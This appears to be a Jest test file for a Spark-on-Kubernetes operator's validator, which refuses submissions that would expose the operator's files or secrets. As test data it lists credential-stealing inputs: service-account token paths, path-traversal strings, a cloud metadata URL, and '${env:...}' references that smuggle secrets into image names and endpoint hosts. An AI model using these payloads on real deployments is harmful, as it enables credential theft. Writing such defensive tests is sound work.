import type { MainApplication } from '../../../src/plan/properties/main-application';
import { SparkProperties } from '../../../src/plan/properties/spark-conf';
import { reasonsAgainstSparkSubmit } from '../../../src/plan/spark-submit/reasons-against';

const JAR: MainApplication = { type: 'java', resource: 'local:///app.jar', mainClass: 'Main', arguments: [] };
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

function fields(conf: { [key: string]: string }, { application = JAR, packages = false, folders = ['/opt/files'] } = {}): string[] {
  return reasonsAgainstSparkSubmit({ properties: SparkProperties.of(conf), application }, { folders, packages }).map(({ field }) => field);
}

test.each([
  'spark.jars', 'spark.files', 'spark.submit.pyFiles', 'spark.archives', 'spark.jars.ivySettings', 'spark.kerberos.keytab', 'spark.yarn.keytab',
  'spark.kubernetes.kerberos.krb5.path', 'spark.kubernetes.authenticate.driver.caCertFile', 'spark.kubernetes.authenticate.submission.oauthTokenFile', 'spark.driver.defaultExtraClassPath',
])('%s does not hand out the operator\'s token', key => {
  expect(fields({ [key]: TOKEN })).toEqual([key]);
  expect(fields({ [key]: `file://${TOKEN}` })).toEqual([key]);
  expect(fields({ [key]: '/opt/files/a' })).toEqual([]);
});

test.each([
  '/opt/files/a.jar', 'file:/opt/files/a.jar', 'file:///opt/files/deep/a_b-1.jar#name', '/opt/files/*.jar',
])('%s may be used', uri => {
  expect(fields({ 'spark.files': uri })).toEqual([]);
});

test.each([
  '/opt/files', '/opt/files/', '/opt/files2/a', '/opt/files/../../etc/passwd', '/opt/files/./a', '/opt/files/%2e%2e/a', '/opt/files/{a}', '/opt/files//a',
  'file:/opt/files/%2e%2e/x', 'file:opt/files/a', 'file://host/opt/files/a', 'FILE:///opt/files/a', 'opt/files/a', '/opt/files/a b', '/opt/files/[.]./a',
])('%s may not', uri => {
  expect(fields({ 'spark.files': uri })).toEqual(['spark.files']);
});

test('without folders no file may be used', () => {
  const [reason] = reasonsAgainstSparkSubmit(
    { properties: SparkProperties.of({}), application: { ...JAR, resource: 'file:///a.jar' } }, { folders: [], packages: false },
  );

  expect(reason).toMatchObject({ field: 'spec.mainApplicationFile', reason: "is a file in the operator's container, and applications may use none of its files" });
});

test('what is fetched by the driver is nobody\'s concern here', () => {
  expect(fields({ 'spark.jars': 's3a://b/*.jar,https://r/a.jar,local:///a.jar', 'spark.kerberos.keytab': 'local:///mounted/me.keytab' })).toEqual([]);
});

test.each(['http://169.254.169.254/latest', '/opt/files/template.yaml'])('a template of the user\'s, %s, would be replaced by the operator\'s, and is not fetched', uri => {
  expect(fields({ 'spark.kubernetes.executor.podTemplateFile': uri })).toEqual(['spark.kubernetes.executor.podTemplateFile']);
});

test('packages are loaded into the operator only if it says so', () => {
  expect(fields({ 'spark.jars.packages': 'g:a:1' })).toEqual(['spark.jars.packages']);
  expect(fields({ 'spark.jars.packages': 'g:a:1' }, { packages: true })).toEqual([]);
  expect(fields({ 'spark.jars.packages': '' })).toEqual([]);
});

test.each([
  ['spark.kubernetes.container.image', '${env:AWS_SECRET_ACCESS_KEY}'],
  ['spark.kubernetes.container.image', 'evil/${env:LANG}:${env:AWS_SECRET_ACCESS_KEY}'],
  ['spark.kubernetes.container.image', 'evil/${env:SPARK_HOME}:${env:AWS_SECRET_ACCESS_KEY}'], // the first one is harmless
  ['spark.kubernetes.container.image', '${env:HTTPS_PROXY}'], // can have a password
  ['spark.kubernetes.container.image', '${ ${env:AWS_SECRET_ACCESS_KEY}'],
  ['spark.kubernetes.container.image', '${system:sun.java.command}'], // in which references of the arguments would be resolved
  ['spark.my', 'x-${env:GOOGLE_APPLICATION_CREDENTIALS}'], // another property can refer to it
  ['spark.kubernetes.driverEnv.A', '${env:AWS_SECRET_ACCESS_KEY}'], // to this one, too
  ['spark.my', '${env.AWS_SESSION_TOKEN}'],
  ['spark.my', '${env:${spark.name}}'],
  ['spark.my', '${spark.${spark.name}}'],
  ['spark.hadoop.fs.s3a.endpoint', 'https://${env.AWS_SESSION_TOKEN}.example'], // as Hadoop writes it
  ['spark.hadoop.fs.s3a.endpoint', 'https://${env.SPARK_HOME:-${env.AWS_SESSION_TOKEN}}.example'],
  ['spark.hadoop.fs.s3a.endpoint', 'http://${env.${a}}'],
  ['spark.hadoop.fs.s3a.endpoint', 'http://${x}{env.AWS_SESSION_TOKEN}'], // with a $ as x
  ['spark.hadoop.fs.s3a.endpoint', 'http://${x}'], // with pieces of a reference as x
  ['spark.hadoop.fs.s3a.endpoint', 'http://${fs.s3a.secret.key}'], // which Spark takes from the operator's variables
  ['spark.hadoop.fs.s3a.connection.maximum', '${sun.java.command}'],
  ['spark.hive.x', '${env.AWS_SESSION_TOKEN}'],
])('%s = %s does not hand out what the operator knows', (key, value) => {
  expect(fields({ [key]: value })).toEqual([key]);
});

test('a refusal names the reference, if it is one', () => {
  const reasons = (value: string) => reasonsAgainstSparkSubmit({ properties: SparkProperties.of({ 'spark.a': value }), application: JAR }, { folders: [], packages: false });

  expect(reasons('i:${env:LANG}')).toEqual([{ field: 'spark.a', reason: 'refers to ${env:LANG} of the operator', remedy: 'write the value itself' }]);
  expect(reasons('${env:password=hunter2}')).toEqual([{ field: 'spark.a', reason: 'refers to ${…} of the operator', remedy: 'write the value itself' }]);
});

test('other references are fine', () => {
  expect(fields({
    'spark.kubernetes.container.image': 'i:${env:SPARK_HOME}', 'spark.x': '${spark.y}:${spark.environment}', 'spark.hadoop.a': '${env.SPARK_HOME}/a$', 'spark.price': '$5 {a}',
  })).toEqual([]);
});

test.each(['spark.jars', 'spark.files', 'spark.submit.pyFiles', 'spark.archives', 'spark.kerberos.keytab'])('%s cannot become another file by way of a reference', key => {
  expect(fields({ [key]: 'https://r/a.jar${spark.more}', 'spark.more': `,${TOKEN}` })).toEqual([key]);
});

test('neither can the main file, which Spark adds to spark.jars; arguments are not resolved', () => {
  expect(fields({}, { application: { ...JAR, resource: 'local:///${env:AWS_SECRET_ACCESS_KEY}' } })).toEqual(['spec.mainApplicationFile']);
  expect(fields({}, { application: { ...JAR, arguments: ['${env:HOME}'] } })).toEqual([]);
});

test.each([
  ['true', false], [' TRUE ', false], ['${spark.foo}', false], ['false', true],
])('the token of the operator is not sent to just anybody: trust in all certificates may be %j: %p', (value, allowed) => {
  expect(fields({ 'spark.kubernetes.trust.certificates': value, 'spark.foo': 'true' })).toEqual(allowed ? [] : ['spark.kubernetes.trust.certificates']);
});

test('an application does not choose the context, and with it the identity, that it is submitted with', () => {
  expect(fields({ 'spark.kubernetes.context': 'admin' })).toEqual(['spark.kubernetes.context']);
});

test.each([
  ['local:///app.jar', ['spec.mainClass']],
  ['spark-internal', ['spec.mainClass']],
  ['s3a://b/app.jar', []],
])('%s without a main class: %j', (resource, expected) => {
  expect(fields({}, { application: { ...JAR, resource, mainClass: undefined } })).toEqual(expected);
});
